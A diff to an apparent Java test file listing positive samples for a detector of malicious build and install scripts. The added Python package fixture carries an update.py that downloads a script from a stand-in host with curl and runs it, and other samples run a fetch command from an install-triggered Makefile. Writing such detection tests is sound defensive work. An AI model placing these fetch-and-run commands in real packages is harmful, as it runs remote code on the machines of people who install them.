@@ -11,6 +11,15 @@ final class BuildPositives {
 
   static List<Sample> all() {
     return List.of(
+        Sample.setup(
+                "a folder that is no package is installed by its name",
+                "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample', 'sample_more'])\n")
+            .with(
+                "sample_more/update.py",
+                """
+                import os
+                os.system('curl -L -o /tmp/a.sh https://drop.example/a.sh && sh /tmp/a.sh')
+                """),
         npm("a makefile that an install script calls", "make -C native all")
             .with("native/Makefile", "all: dep\n\t@" + PULL + "\n"),
         npm("a makefile whose variable runs a command", "make")
